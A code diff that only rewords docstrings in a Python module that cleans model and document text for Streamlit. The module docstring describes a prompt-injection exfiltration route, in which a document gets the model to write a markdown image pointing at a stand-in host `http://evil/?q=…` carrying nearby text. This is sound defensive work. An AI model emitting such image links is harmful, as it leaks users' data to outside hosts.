@@ -1,7 +1,6 @@
-"""Text of models and documents made fit for Streamlit: no images, web links only, no formulas
-where prices were meant.
+"""Text of models and documents made fit for Streamlit.
 
-A document can try to send its neighbours' text out by having the model write
+No images, web links only, and no formulas where prices were meant. A document can try to send its neighbours' text out by having the model write
 `![](http://evil/?q=…)`. Streamlit already draws raw HTML as text; images and links are dealt with
 here, and the page's content policy (page.js) stops the browser from loading anything remote should
 something slip through.
@@ -132,7 +131,7 @@ class _Prose:
 
 
 def _tex_as_dollars(match: re.Match[str]) -> str:
-    """Return `$x$` for `\\(x\\)`, and `$$x$$` for `\\[x\\]`."""
+    """Return TeX's brackets for a formula as the dollars that Streamlit knows."""
     inline_body, display_body = match.groups()
     if inline_body:
         return f"${inline_body.strip()}$"
